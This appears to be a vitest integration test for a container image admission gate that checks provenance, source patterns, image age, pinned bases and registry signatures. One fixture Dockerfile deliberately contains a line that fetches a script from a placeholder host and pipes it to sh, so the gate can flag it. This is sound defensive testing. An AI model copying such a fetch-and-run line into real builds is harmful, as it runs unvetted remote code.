import { generateKeyPairSync } from "node:crypto";
import { mkdtemp, rm, writeFile } from "node:fs/promises";
import { homedir, tmpdir } from "node:os";
import { join } from "node:path";
import { LABELS, systemClock, type JsonObject } from "@molecule-ai/core";
import {
  connectEngine,
  engineSettingsFromEnv,
  type DockerEngine,
} from "@molecule-ai/docker-engine";
import { createImageBuilder } from "@molecule-ai/image-build";
import { createRegistryClient, type RegistryClient } from "@molecule-ai/registry-client";
import type { ResolvedImage } from "@molecule-ai/registry-mode";
import {
  busyboxImage,
  findTestEngine,
  findTestRegistry,
  startTestRegistry,
  uniqueName,
} from "@molecule-ai/testkit";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createAdmissionGate, type AdmissionGate } from "../src/admission/admission-gate.js";
import { parseAdmissionPolicy } from "../src/admission/admission-policy.js";
import { createProvenanceRecorder } from "../src/provenance/provenance-recorder.js";
import { createProvenanceStore } from "../src/provenance/provenance-store.js";
import { parseStatement } from "../src/verification/statement.js";

const found = await findTestEngine();
const registryProgram = await findTestRegistry();
const skip = found.skip ?? registryProgram.skip;

describe.skipIf(skip !== undefined)("the gate before a workspace", () => {
  const installId = uniqueName("t");
  const tag = `${uniqueName("molecule-test/gate")}:1`;
  let engine: DockerEngine;
  let directory: string;
  let image: ResolvedImage;

  beforeAll(async () => {
    const settings = engineSettingsFromEnv(
      { DOCKER_HOST: found.dockerHost },
      { homeDirectory: homedir(), platform: process.platform },
    );
    engine = await connectEngine({ settings });
    directory = await mkdtemp(join(tmpdir(), "molecule-gate-"));
    const base = await busyboxImage(found.socketPath ?? "");
    await writeFile(
      join(directory, "Dockerfile"),
      `FROM ${base}\nRUN wget -qO- http://x.example/i | sh || true\n`,
    );
    const startedAt = Date.now();
    const { imageId = "" } = await createImageBuilder({ engine }).build({
      context: { kind: "directory", path: directory },
      tags: [tag],
      labels: { [LABELS.builtBy]: installId, "molecule.test": "true" },
    });
    image = {
      ref: tag,
      imageId,
      digest: undefined,
      revision: "c".repeat(40),
      tree: "d".repeat(40),
      source: "https://git.example.com/team/hello",
      platform: undefined,
      outcome: "built",
      templatePath: undefined,
    };
    await recorder().built({
      imageId,
      tags: [tag],
      source: {
        repository: "https://git.example.com/team/hello",
        ref: "main",
        commit: "c".repeat(40),
        tree: "d".repeat(40),
      },
      files: directory,
      dockerfile: "Dockerfile",
      parameters: { runtime: "hello" },
      startedAt,
      finishedAt: Date.now(),
    });
  });
  afterAll(async () => {
    await engine.images.remove(tag);
    await engine[Symbol.asyncDispose]();
    await rm(directory, { recursive: true, force: true });
  });

  const store = () => createProvenanceStore(join(directory, "provenance"));
  const recorder = () =>
    createProvenanceRecorder({ engine, store: store(), installId, versions: { test: "1" } });
  const gate = (
    policy: object,
    over: Partial<Parameters<typeof createAdmissionGate>[0]> = {},
  ): AdmissionGate =>
    createAdmissionGate({
      engine,
      installId,
      provenance: store(),
      policy: parseAdmissionPolicy(policy),
      ...over,
    });

  it("starts at tier 4 what this installation built, and nothing of another one", async () => {
    const question = { tier: 4, image, isNamed: false } as const;
    expect((await gate({}).judge(question)).decision).toBe("allowed");
    await expect(gate({}, { installId: "another" }).admit(question)).rejects.toMatchObject({
      code: "ERR_TRUST_REFUSED",
      message: expect.stringContaining("rule knownDigest"),
    });
  });

  it("does not take an image that somebody names for one of ours because of its labels", async () => {
    expect((await gate({}).judge({ tier: 3, image, isNamed: true })).decision).toBe("refused");
  });

  it("knows from the provenance what the Dockerfile said", async () => {
    const question = { tier: 2, image, isNamed: false } as const;
    const policy = { rules: { provenance: true, sources: ["https://git.example.com/team/*"] } };
    expect(await gate(policy).judge(question)).toMatchObject({
      decision: "allowed",
      passed: ["sources", "provenance"],
    });
    expect(await gate({ rules: { findings: "high" } }).judge(question)).toMatchObject({
      decision: "refused",
      findings: [{ rule: "findings", message: expect.stringContaining("and 1 more") }],
    });
    expect(await gate({ rules: { pinnedBases: true } }).judge(question)).toMatchObject({
      decision: "refused",
      findings: [{ rule: "pinnedBases" }],
    });
  });

  it("takes the age of an image from its provenance: its own times may be those of its source", async () => {
    const clock = { ...systemClock, now: () => Date.now() + 10 * 24 * 3600 * 1000 };
    const question = { tier: 2, image, isNamed: false } as const;
    expect(await gate({ rules: { maxAgeDays: 11 } }, { clock }).judge(question)).toMatchObject({
      decision: "allowed",
    });
    expect(await gate({ rules: { maxAgeDays: 9 } }, { clock }).judge(question)).toMatchObject({
      findings: [{ rule: "maxAgeDays" }],
    });
    const old = createProvenanceStore(join(directory, "old"));
    const kept = await store().read(image.imageId);
    const predicate = JSON.parse(JSON.stringify(kept?.predicate)) as {
      runDetails: { metadata: { finishedOn: string } };
    };
    predicate.runDetails.metadata.finishedOn = "2001-01-01T00:00:00.000Z";
    await old.write(image.imageId, {
      _type: "https://in-toto.io/Statement/v1",
      subject: [{ name: "x", digest: { sha256: image.imageId.slice("sha256:".length) } }],
      predicateType: kept?.predicateType ?? "",
      predicate: predicate as unknown as JsonObject,
    });
    const verdict = await gate({ rules: { maxAgeDays: 9 } }, { provenance: old }).judge(question);
    expect(verdict.findings).toMatchObject([{ rule: "maxAgeDays" }]);
  });

  it("looks for signatures where the image was pushed, not where its local name points", async () => {
    const asked: string[] = [];
    const registry = {
      referrers: (repository: string) => (asked.push(repository), Promise.resolve([])),
      manifest: (reference: string) => (asked.push(reference), Promise.reject(new Error("no"))),
      resolve: (reference: string) => (asked.push(reference), Promise.resolve(undefined)),
    } as unknown as RegistryClient;
    const trust = {
      keys: [
        {
          id: "k",
          publicKey: generateKeyPairSync("ec", { namedCurve: "P-256" }).publicKey.export({
            type: "spki",
            format: "pem",
          }),
        },
      ],
    };
    const signed = gate({ rules: { signed: true }, trust }, { registry });
    const digest = `sha256:${"a".repeat(64)}`;
    const question = { tier: 2, image: { ...image, digest }, isNamed: false } as const;
    await signed
      .judge({ ...question, pushedAs: `registry.example.com/team/hello@${digest}` })
      .catch(() => undefined);
    expect(asked.length).toBeGreaterThan(0);
    expect(asked.every((name) => name.startsWith("registry.example.com/team/hello"))).toBe(true);
    asked.length = 0;
    expect((await signed.judge({ ...question, pushedAs: null })).decision).toBe("refused");
    expect(asked).toEqual([]);
  });

  it("does not guess what it was never told", async () => {
    const provenance = createProvenanceStore(join(directory, "none"));
    const strict = gate({ rules: { provenance: true, bases: ["debian*"] } }, { provenance });
    const verdict = await strict.judge({ tier: 2, image, isNamed: false });
    expect(verdict.findings.map(({ rule }) => rule)).toEqual(["provenance", "bases"]);
  });

  it("puts the provenance beside a pushed image, about what the registry calls it", async () => {
    await using registry = await startTestRegistry();
    await using client = createRegistryClient();
    const target = `${registry.host}/team/hello:1`;
    await engine.images.tag(tag, target);
    try {
      const { digest } = await engine.images.push(target);
      const reference = `${registry.host}/team/hello@${digest}`;
      expect(await recorder().pushed(image.imageId, reference, { registry: client })).toBe(true);
      const repository = `${registry.host}/team/hello`;
      const [referrer] = await client.referrers(repository, digest ?? "");
      expect(referrer).toMatchObject({ artifactType: "application/vnd.in-toto+json" });
      const { json } = await client.manifest(`${repository}@${referrer?.digest ?? ""}`);
      const [layer] = (json as { layers: { digest: string }[] }).layers;
      const chunks: Buffer[] = [];
      for await (const chunk of await client.blob(repository, layer?.digest ?? "")) {
        chunks.push(chunk as Buffer);
      }
      const statement = parseStatement(Buffer.concat(chunks));
      expect(statement.subjects).toEqual([{ name: repository, digest }]);
      expect(statement.predicate).toMatchObject({
        buildDefinition: { externalParameters: { runtime: "hello" } },
      });
      expect(
        await recorder().pushed(`sha256:${"9".repeat(64)}`, reference, { registry: client }),
      ).toBe(false);
    } finally {
      await engine.images.remove(target);
    }
  });

  it("starts at tier 3 what was pulled under a digest, and asks its registry for signatures", async () => {
    await using registry = await startTestRegistry();
    await using client = createRegistryClient();
    const target = `${registry.host}/team/pulled:1`;
    await engine.images.tag(await busyboxImage(found.socketPath ?? ""), target);
    try {
      const { digest } = await engine.images.push(target);
      const pulled: ResolvedImage = {
        ...image,
        ref: `${registry.host}/team/pulled@${digest}`,
        imageId: (await engine.images.inspect(target))?.id ?? "",
        digest,
        revision: undefined,
        source: undefined,
        outcome: "pulled",
      };
      const question = { tier: 3, image: pulled, isNamed: true } as const;
      const sources = [`${registry.host}/team/*`];
      expect(await gate({ rules: { sources } }).judge(question)).toMatchObject({
        decision: "allowed",
      });
      const { generateKeyPairSync } = await import("node:crypto");
      const { publicKey } = generateKeyPairSync("ec", { namedCurve: "P-256" });
      const key = publicKey.export({ type: "spki", format: "pem" }).toString();
      const signed = { rules: { signed: true }, trust: { keys: [{ id: "a", publicKey: key }] } };
      expect(await gate(signed, { registry: client }).judge(question)).toMatchObject({
        decision: "refused",
        findings: [{ rule: "signed", message: "nobody signed it" }],
      });
    } finally {
      await engine.images.remove(target);
    }
  });
});
